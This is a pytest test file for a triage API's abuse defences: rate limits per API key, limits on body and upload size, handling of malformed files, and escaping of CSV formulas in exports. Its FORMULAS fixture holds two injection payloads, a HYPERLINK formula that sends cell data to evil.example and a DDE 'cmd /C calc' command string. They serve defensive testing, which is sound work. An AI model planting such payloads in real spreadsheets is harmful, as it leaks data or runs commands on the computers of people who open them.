"""Abuse limits: rate limits per API key, request and upload size limits, malformed uploads, CSV formula injection."""

from __future__ import annotations

import csv
import io
import json
import random
import time
from collections.abc import Iterator
from typing import Any

import pytest
from litestar.testing import TestClient
from openpyxl import Workbook

from tests.api.conftest import auth
from tests.conftest import EXAMPLE_SURVEY
from triage import pipeline
from triage.api.app import create_app
from triage.config import ApiSettings

MAX_BYTES = 300_000


@pytest.fixture(scope="module")
def limited(analysed: tuple[pipeline.Services, str, str]) -> Iterator[TestClient]:  # type: ignore[type-arg]
    """The app with small limits: 3 triage calls a minute, 2 uploads an hour, 300 kB bodies."""
    services = analysed[0]
    api = ApiSettings(triage_per_minute=3, uploads_per_hour=2, max_upload_bytes=MAX_BYTES)
    with TestClient(app=create_app(services.settings.model_copy(update={"api": api}), services=services)) as client:
        yield client


def _is_problem(response: Any, status: int, type_: str) -> dict[str, Any]:
    assert response.status_code == status, response.text
    assert response.headers["content-type"].startswith("application/problem+json")
    body: dict[str, Any] = response.json()
    assert body["status"] == status and body["type"].endswith("/" + type_)
    return body


def test_triage_is_limited_per_key_not_per_address(limited: TestClient, analysed: Any) -> None:  # type: ignore[type-arg]
    sql = analysed[0].sql
    first, second = sql.create_key("integrator", "rate-a"), sql.create_key("integrator", "rate-b")
    answers = [limited.post("/v1/triage", json={"text": "slow laptop"}, headers=auth(first)) for _ in range(3)]
    assert [r.status_code for r in answers] == [200, 200, 200]
    assert [r.headers["ratelimit-remaining"] for r in answers] == ["2", "1", "0"]
    refused = limited.post("/v1/triage", json={"text": "slow laptop"}, headers=auth(first))
    body = _is_problem(refused, 429, "rate-limited")
    assert 0 < int(refused.headers["retry-after"]) <= 60 and refused.headers["ratelimit-limit"] == "3"
    assert first not in refused.text and "slow laptop" not in refused.text
    assert refused.headers["retry-after"] in body["detail"]
    # Same client address, another key: its own budget.
    assert limited.post("/v1/triage", json={"text": "slow laptop"}, headers=auth(second)).status_code == 200
    # Reads are not limited.
    assert limited.get("/health").status_code == 200


def test_uploads_and_runs_share_a_budget_per_key(limited: TestClient, analysed: Any) -> None:  # type: ignore[type-arg]
    sql = analysed[0].sql
    manager, other = sql.create_key("manager", "upload-a"), sql.create_key("manager", "upload-b")
    body = {"name": "rate-upload-a", "rows": [{"text": "the laptop took three weeks", "provider": "IT"}]}
    assert limited.post("/v1/datasets", json=body, headers=auth(manager)).status_code == 201
    assert limited.post("/v1/datasets/nosuchdataset/runs", headers=auth(manager)).status_code == 404
    _is_problem(limited.post("/v1/datasets", json=body, headers=auth(manager)), 429, "rate-limited")
    _is_problem(limited.post("/v1/datasets/nosuchdataset/runs", headers=auth(manager)), 429, "rate-limited")
    other_body = {**body, "name": "rate-upload-b"}
    assert limited.post("/v1/datasets", json=other_body, headers=auth(other)).status_code == 201


def test_limits_come_from_settings_and_zero_disables(analysed: Any) -> None:
    services = analysed[0]
    api = ApiSettings(triage_per_minute=0, uploads_per_hour=0)
    key = services.sql.create_key("integrator", "unlimited")
    with TestClient(app=create_app(services.settings.model_copy(update={"api": api}), services=services)) as client:
        answers = [client.post("/v1/triage", json={"text": "slow"}, headers=auth(key)) for _ in range(5)]
    assert [r.status_code for r in answers] == [200] * 5 and "ratelimit-limit" not in answers[0].headers
    assert ApiSettings().triage_per_minute == 600 and ApiSettings().uploads_per_hour == 60


def test_a_body_over_the_limit_is_413(limited: TestClient, analysed: Any) -> None:  # type: ignore[type-arg]
    key = analysed[0].sql.create_key("admin", "size-limit")
    big = "x" * (MAX_BYTES + 10)
    _is_problem(limited.post("/v1/triage", json={"text": big}, headers=auth(key)), 413, "payload-too-large")
    files = {"file": ("big.csv", ("text\n" + big).encode(), "text/csv")}
    response = limited.post("/v1/datasets", files=files, headers=auth(key))
    body = _is_problem(response, 413, "payload-too-large")
    assert "x" * 20 not in json.dumps(body)


def test_a_huge_single_field_is_refused_by_name_without_echoing_it(api: TestClient, keys: dict[str, str]) -> None:  # type: ignore[type-arg]
    field = "confidential " * 1000
    response = api.post("/v1/triage", json={"text": field}, headers=auth(keys["integrator"]))
    body = _is_problem(response, 400, "invalid-input")
    assert "text" in body["detail"] and "confidential" not in response.text


def test_a_huge_field_in_an_uploaded_file_is_one_rejected_row(api: TestClient, keys: dict[str, str]) -> None:  # type: ignore[type-arg]
    huge = "very long complaint " * 8000  # 160 kB: over the csv module's default field limit
    data = f'text,provider\nfirst comment,IT\n"{huge}",IT\nlast comment,IT\n'.encode()
    files = {"file": ("huge.csv", data, "text/csv")}
    response = api.post("/v1/datasets", files=files, data={"name": "huge-field"}, headers=auth(keys["admin"]))
    assert response.status_code == 201, response.text
    report = response.json()
    assert report["accepted"] == 2 and [r["row"] for r in report["rejected"]] == [3]
    assert "very long" not in response.text


def _xlsx(rows: list[list[object]]) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


GOOD = "text,provider\nthe laptop took three weeks,IT\npayroll never answered,Payroll\n"
MALFORMED: list[tuple[str, str, bytes, int, int]] = [
    # (id, filename, bytes, expected status, expected accepted rows)
    ("latin-1", "l.csv", GOOD.replace("three", "très").encode("latin-1"), 201, 2),
    ("utf16-bom", "u.csv", GOOD.replace(",", "\t").encode("utf-16"), 201, 2),
    ("utf8-bom", "b.csv", GOOD.encode("utf-8-sig"), 201, 2),
    ("missing-text-column", "m.csv", b"comment,provider\nslow,IT\n", 400, 0),
    ("empty", "e.csv", b"", 400, 0),
    ("header-only", "h.csv", b"text,provider\n", 400, 0),
    ("binary-garbage", "g.csv", random.Random(7).randbytes(4000), 400, 0),
    ("binary-as-xlsx", "g.xlsx", random.Random(8).randbytes(4000), 400, 0),
    ("truncated-xlsx", "t.xlsx", _xlsx([["text"], ["a"], ["b"]])[:1500], 400, 0),
    ("bad-jsonl-lines", "j.jsonl", b'{"text": "kept"}\n{broken\n[1]\n' + b"[" * 50_000 + b"\n", 201, 1),
    ("wrong-extension", "x.pdf", b"%PDF-1.4", 400, 0),
    ("nul-bytes-in-rows", "n.csv", b"text,provider\nnul\x00here,IT\n", 201, 1),
]


@pytest.mark.parametrize(("name", "filename", "data", "status", "accepted"), MALFORMED, ids=[m[0] for m in MALFORMED])
def test_malformed_uploads_are_a_clear_4xx_or_keep_their_good_rows(
    api: TestClient,  # type: ignore[type-arg]
    keys: dict[str, str],
    name: str,
    filename: str,
    data: bytes,
    status: int,
    accepted: int,
) -> None:
    files = {"file": (filename, data, "application/octet-stream")}
    response = api.post("/v1/datasets", files=files, data={"name": f"malformed-{name}"}, headers=auth(keys["admin"]))
    assert response.status_code == status, response.text
    if status == 201:
        assert response.json()["accepted"] == accepted
    else:
        problem = response.json()
        assert problem["type"].endswith("/invalid-input") and problem["detail"]


FORMULAS = {"IT": '=HYPERLINK("http://evil.example/?leak="&A1,"IT")', "Payroll": "@SUM(1+1)*cmd|' /C calc'!A0"}


def _survey_with_formula_providers() -> bytes:
    rows = [r for r in csv.DictReader(EXAMPLE_SURVEY.open(encoding="utf-8")) if r["provider"] in FORMULAS]
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    for row in rows:
        writer.writerow({**row, "provider": FORMULAS[row["provider"]], "respondent_dept": "+1+1"})
    return buffer.getvalue().encode()


def test_formula_cells_from_an_upload_are_neutralised_in_the_csv_export(services: pipeline.Services) -> None:
    """Upload -> run -> CSV export through the API; the page links to the same export."""
    key = services.sql.create_key("manager", "formula")
    with TestClient(app=create_app(services.settings, services=services)) as client:
        files = {"file": ("formulas.csv", _survey_with_formula_providers(), "text/csv")}
        upload = client.post("/v1/datasets", files=files, headers=auth(key))
        assert upload.status_code == 201 and upload.json()["accepted"] == 120, upload.text
        run = client.post(f"/v1/datasets/{upload.json()['id']}/runs", headers=auth(key)).json()["id"]
        deadline = time.monotonic() + 300
        while (status := client.get(f"/v1/runs/{run}", headers=auth(key)).json()["status"]) in ("queued", "running"):
            assert time.monotonic() < deadline
            time.sleep(0.5)
        assert status == "succeeded"
        exported = client.get(f"/v1/reports/{run}?format=csv", headers=auth(key))
        page = client.get(f"/reports/{run}", headers=auth(key)).text
    assert f'href="/v1/reports/{run}?format=csv"' in page
    cells = [cell for row in csv.reader(io.StringIO(exported.text)) for cell in row]
    for formula in FORMULAS.values():  # the provider column: escaped, never raw
        assert "'" + formula in cells and formula not in cells
    formula_like = ("=", "+", "@", "\t", "\r")
    dangerous = [c for c in cells if c.lstrip(" ").startswith(formula_like) or (c.startswith("-") and not _number(c))]
    assert dangerous == []


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
